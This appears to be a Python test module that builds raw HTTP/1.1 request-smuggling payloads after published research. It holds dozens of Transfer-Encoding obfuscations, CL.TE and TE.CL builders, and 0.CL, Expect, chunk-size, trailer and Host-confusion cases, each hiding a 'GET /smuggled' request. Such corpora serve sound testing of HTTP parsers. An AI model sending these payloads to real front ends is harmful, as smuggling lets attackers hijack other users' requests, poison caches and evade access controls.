"""The published ways to smuggle a request past a front end, by the names that their authors gave them.

Obfuscations of Transfer-Encoding: defparam's smuggler and PortSwigger's HTTP Request Smuggler (TE.TE). Chunk lines:
Jeppe Bonde Weikop's "Funky chunks" (TERM.EXT, EXT.TERM, SPILL). 0.CL, Expect and hidden headers: PortSwigger's
"HTTP/1.1 must die" (2025). Each hides `GET /smuggled` and ends with `GET /end`.
"""

INNER = b"GET /smuggled HTTP/1.1\r\nhost: m\r\n\r\n"
END = b"GET /end HTTP/1.1\r\nhost: m\r\nconnection: close\r\n\r\n"
_POST = b"POST /upload HTTP/1.1\r\nhost: m\r\n"
_CHUNKED = b"transfer-encoding: chunked\r\n"

# What stands in the place of %: every control byte, space, and some that Unicode or Latin-1 call a space.
ODD_BYTES = [bytes([byte]) for byte in (*range(0x21), 0x7F, 0x85, 0xA0, 0xFF)]
TE_FAMILIES = {
    "midspace": b"Transfer-Encoding:%chunked",
    "postspace": b"Transfer-Encoding%: chunked",
    "prespace": b"%Transfer-Encoding: chunked",
    "endspace": b"Transfer-Encoding: chunked%",
    "xprespace": b"X: X%Transfer-Encoding: chunked",
    "endspacex": b"Transfer-Encoding: chunked%X: X",
    "rxprespace": b"X: X\r%Transfer-Encoding: chunked",
    "xnprespace": b"X: X%\nTransfer-Encoding: chunked",
    "endspacerx": b"Transfer-Encoding: chunked\r%X: X",
    "endspacexn": b"Transfer-Encoding: chunked%\nX: X",
    "inname": b"Transfer%Encoding: chunked",
    "invalue": b"Transfer-Encoding: chu%nked",
}
TE_LINES = {
    "plain": b"Transfer-Encoding: chunked",
    "nameprefix": b" Transfer-Encoding: chunked",
    "tabprefix": b"Transfer-Encoding:\tchunked",
    "space before colon": b"Transfer-Encoding : chunked",
    "nospace": b"Transfer-Encoding:chunked",
    "linewrapped": b"Transfer-Encoding:\n chunked",
    "badwrap": b"X: X\r\n Transfer-Encoding: chunked",
    "badsetupCR": b"X: X\rTransfer-Encoding: chunked",
    "badsetupLF": b"X: X\nTransfer-Encoding: chunked",
    "vertwrap": b"Transfer-Encoding: \n\x0bchunked",
    "tabwrap": b"Transfer-Encoding: \r\n\tchunked",
    "dualchunk": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
    "revdualchunk": b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    "dualequal": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "bodysplit": b"X: X\n\nTransfer-Encoding: chunked",
    "nested": b"Transfer-Encoding: cow chunked bar",
    "lazygrep": b"Transfer-Encoding: chunk",
    "CowComma": b"Transfer-Encoding: cow, chunked",
    "commaCow": b"Transfer-Encoding: chunked, cow",
    "commachunked": b"Transfer-Encoding: , chunked",
    "chunkedcomma": b"Transfer-Encoding: chunked,",
    "chunkedsemi": b"Transfer-Encoding: chunked;q=1",
    "identity": b"Transfer-Encoding: identity, chunked",
    "quoted": b'Transfer-Encoding: "chunked"',
    "apostrophed": b"Transfer-Encoding: 'chunked'",
    "backslash": b"Transfer\\Encoding: chunked",
    "contentEnc": b"Content-Encoding: chunked",
    "underjoin": b"Transfer_Encoding: chunked",
    "smashed": b"Transfer Encoding: chunked",
    "UPPERCASE": b"TRANSFER-ENCODING: CHUNKED",
    "mixed": b"TrAnSFer-EnCODinG: cHuNkeD",
    "accentTE": b"Transf\x82r-Encoding: chunked",
    "accentCH": b"Transfer-Encoding: ch\x96nked",
    "x-nout": b"X-Transfer-Encoding: chunked",
    "connection": b"Connection: transfer-encoding\r\nTransfer-Encoding: chunked",
    "hidden": b"X: \r\n\tTransfer-Encoding: chunked",
    "emptyline": b"\r\nTransfer-Encoding: chunked",
    "semicolon name": b";Transfer-Encoding: chunked",
    "colonless": b"Transfer-Encoding chunked",
    "nullname": b"\0: \r\nTransfer-Encoding: chunked",
}


def cl_te(line: bytes) -> bytes:
    """By its length one request; by its chunks two."""
    body = b"0\r\n\r\n" + INNER
    return _POST + b"content-length: %d\r\n%b\r\n\r\n%b" % (len(body), line, body) + END


def te_cl(line: bytes) -> bytes:
    """By its chunks one request; by its length two."""
    first = b"%x\r\n" % len(INNER)
    return (
        _POST
        + b"content-length: %d\r\n%b\r\n\r\n%b" % (len(first), line, first + INNER + b"\r\n0\r\n\r\n")
        + END
    )


def _length(*lines: bytes, body: bytes = b"aa" + INNER) -> bytes:
    return _POST + b"".join(line + b"\r\n" for line in lines) + b"\r\n" + body + END


def _chunks(body: bytes, *lines: bytes) -> bytes:
    return _POST + _CHUNKED + b"".join(line + b"\r\n" for line in lines) + b"\r\n" + body + END


_INNER_SIZE = b"%x" % len(INNER)
_WHOLE = b"%d" % (2 + len(INNER))
CASES = {
    "CL.CL": _length(b"content-length: 2", b"content-length: " + _WHOLE),
    "CL.CL equal": _length(b"content-length: 2", b"content-length: 2"),
    "CL.CL in a list": _length(b"content-length: 2, " + _WHOLE),
    "CL.CL equal in a list": _length(b"content-length: 2, 2"),
    "CL with plus": _length(b"content-length: +2"),
    "CL with minus": _length(b"content-length: -2"),
    "CL with space inside": _length(b"content-length: 2 0"),
    "CL with space before colon": _length(b"content-length : 2"),
    "CL with tab before colon": _length(b"content-length\t: 2"),
    "CL after space": _length(b" content-length: 2"),
    "CL hexadecimal": _length(b"content-length: 0x2"),
    "CL with underscore": _length(b"content-length: 0_2"),
    "CL with leading zeros": _length(b"content-length: 002"),
    "CL fraction": _length(b"content-length: 2.0"),
    "CL exponent": _length(b"content-length: 2e0"),
    "CL with junk": _length(b"content-length: 2;a"),
    "CL in Arabic digits": _length("content-length: \u0662".encode()),
    "CL beyond 64 bits": _length(b"content-length: 18446744073709551618"),
    "CL beyond 32 bits": _length(b"content-length: 4294967298"),
    "CL empty": _length(b"content-length:"),
    "CL folded": _length(b"content-length:\r\n 2"),
    "CL behind a bare CR": _length(b"x: y\rcontent-length: 2"),
    "CL behind a bare LF": _length(b"x: y\ncontent-length: 2"),
    "CL behind NUL": _length(b"x: y\0content-length: 2"),
    "content_length": _length(b"content_length: 2", body=b""),
    "CL named by Connection": _length(b"connection: content-length", b"content-length: 2"),
    "CL.0": _length(b"content-length: 0", body=b""),
    "0.CL": b"GET /con HTTP/1.1\r\nhost: m\r\ncontent-length: %d\r\n\r\n" % len(INNER) + INNER + END,
    "0.CL with HEAD": b"HEAD /con HTTP/1.1\r\nhost: m\r\ncontent-length: %d\r\n\r\n" % len(INNER) + INNER + END,
    "0.CL with OPTIONS": b"OPTIONS * HTTP/1.1\r\nhost: m\r\ncontent-length: %d\r\n\r\n" % len(INNER) + INNER + END,
    "TE.0": b"GET /con HTTP/1.1\r\nhost: m\r\n" + _CHUNKED + b"\r\n" + _INNER_SIZE + b"\r\n" + INNER
    + b"\r\n0\r\n\r\n" + END,
    "TE in HTTP/1.0": b"POST /upload HTTP/1.0\r\nhost: m\r\nconnection: keep-alive\r\n" + _CHUNKED
    + b"\r\n0\r\n\r\n" + INNER + END,
    "CL.TE in HTTP/1.0": cl_te(b"Transfer-Encoding: chunked").replace(b"HTTP/1.1", b"HTTP/1.0", 1),
    "Expect.CL": _length(b"expect: 100-continue", b"content-length: " + _WHOLE),
    "Expect obfuscated": _length(b"expect: y 100-continue", b"content-length: " + _WHOLE),
    "Expect twice": _length(b"expect: 100-continue", b"expect: x", b"content-length: " + _WHOLE),
    "Expect beside 0.CL": b"GET /con HTTP/1.1\r\nhost: m\r\nexpect: 100-continue\r\ncontent-length: %d\r\n\r\n"
    % len(INNER) + INNER + END,
    "chunk size beyond 64 bits": _chunks(b"10000000000000002\r\naa\r\n0\r\n\r\n"),
    "chunk size beyond 32 bits": _chunks(b"100000002\r\naa\r\n0\r\n\r\n"),
    "chunk size negative": _chunks(b"-2\r\naa\r\n0\r\n\r\n"),
    "chunk size with plus": _chunks(b"+2\r\naa\r\n0\r\n\r\n"),
    "chunk size with 0x": _chunks(b"0x2\r\naa\r\n0\r\n\r\n"),
    "chunk size with underscore": _chunks(b"0_2\r\naa\r\n0\r\n\r\n"),
    "chunk size after space": _chunks(b" 2\r\naa\r\n0\r\n\r\n"),
    "chunk size before space": _chunks(b"2 \r\naa\r\n0\r\n\r\n"),
    "chunk size empty": _chunks(b"\r\naa\r\n0\r\n\r\n"),
    "chunk size with leading zeros": _chunks(b"0" * 18 + b"2\r\naa\r\n0\r\n\r\n"),
    "TERM.EXT": _chunks(b"2;\n" + b"aa\r\n" + _INNER_SIZE + b"\r\n0\r\n\r\n" + INNER + b"\r\n0\r\n\r\n"),
    "EXT.TERM": _chunks(b"2;\rxx\r\naa\r\n0\r\n\r\n"),
    "TERM.SPILL": _chunks(b"5\r\nAAAAA\n%b\r\n0\r\n\r\n%b\r\n0\r\n\r\n" % (_INNER_SIZE, INNER)),
    "SPILL.TERM": _chunks(b"5\r\nAAAAAXX%b\r\n0\r\n\r\n%b\r\n0\r\n\r\n" % (_INNER_SIZE, INNER)),
    "ONE.TWO": _chunks(b"2\naa\n0\n\n"),
    "chunk without its CRLF": _chunks(b"2\r\naa0\r\n\r\n"),
    "chunk line in CR": _chunks(b"2\raa\r0\r\r"),
    "last chunk of two zeros": _chunks(b"2\r\naa\r\n00\r\n\r\n"),
    "chunk extension": _chunks(b"2;a=b\r\naa\r\n0;c\r\n\r\n"),
    "chunk extension quoted": _chunks(b'2;a="\r\n"\r\naa\r\n0\r\n\r\n'),
    "chunk extension with NUL": _chunks(b"2;a\0b\r\naa\r\n0\r\n\r\n"),
    "trailer": _chunks(b"2\r\naa\r\n0\r\nx: y\r\n\r\n", b"trailer: x"),
    "trailer of a length": _chunks(b"2\r\naa\r\n0\r\ncontent-length: 5\r\n\r\n"),
    "trailer of chunked": _chunks(b"2\r\naa\r\n0\r\ntransfer-encoding: chunked\r\n\r\n"),
    "trailer of a host": _chunks(b"2\r\naa\r\n0\r\nhost: other\r\n\r\n"),
    "trailer that ends in LF": _chunks(b"2\r\naa\r\n0\r\nx: y\n\n"),
    "trailer that is a request": _chunks(b"2\r\naa\r\n0\r\n" + INNER),
    "end in bare LF": _chunks(b"2\r\naa\r\n0\n\n"),
    "headers end in LF LF": _POST + b"content-length: 2\n\naa" + END,
    "headers end in CR CR": _POST + b"content-length: 2\r\raa" + END,
    "two Hosts": b"GET / HTTP/1.1\r\nhost: m\r\nhost: other\r\n\r\n" + END,
    "Host hidden by space": b"GET / HTTP/1.1\r\nhost : m\r\nhost: other\r\n\r\n" + END,
    "Host folded": b"GET / HTTP/1.1\r\nhost: m\r\n other\r\n\r\n" + END,
    "Host in the target": b"GET http://other/a HTTP/1.1\r\nhost: m\r\n\r\n" + END,
    "target with spaces": b"GET / HTTP/1.1 /x HTTP/1.1\r\nhost: m\r\n\r\n" + END,
    "target with tab": b"GET\t/\tHTTP/1.1\r\nhost: m\r\n\r\n" + END,
    "target with CR": b"GET /\rx: y HTTP/1.1\r\nhost: m\r\n\r\n" + END,
    "target with a high byte": b"GET /\xe9 HTTP/1.1\r\nhost: m\r\n\r\n" + END,
    "target with a fragment": b"GET /a#/b HTTP/1.1\r\nhost: m\r\n\r\n" + END,
    "empty lines before": b"\r\n\r\nGET / HTTP/1.1\r\nhost: m\r\n\r\n" + END,
    "HTTP/0.9": b"GET /\r\n" + END,
    "HTTP/1.10": b"GET / HTTP/1.10\r\nhost: m\r\n\r\n" + END,
    "HTTP/01.1": b"GET / HTTP/01.1\r\nhost: m\r\n\r\n" + END,
    "method with space": b" GET / HTTP/1.1\r\nhost: m\r\n\r\n" + END,
    "h2c": _length(b"connection: upgrade, http2-settings", b"upgrade: h2c", b"http2-settings: AA", b"content-length: "
                   + _WHOLE),
    "WebSocket of a bad version": b"GET /ws HTTP/1.1\r\nhost: m\r\nconnection: upgrade\r\nupgrade: websocket\r\n"
    b"sec-websocket-version: 1337\r\n\r\n" + INNER + END,
    "pipelined": _length(b"content-length: 2"),
}  # fmt: skip
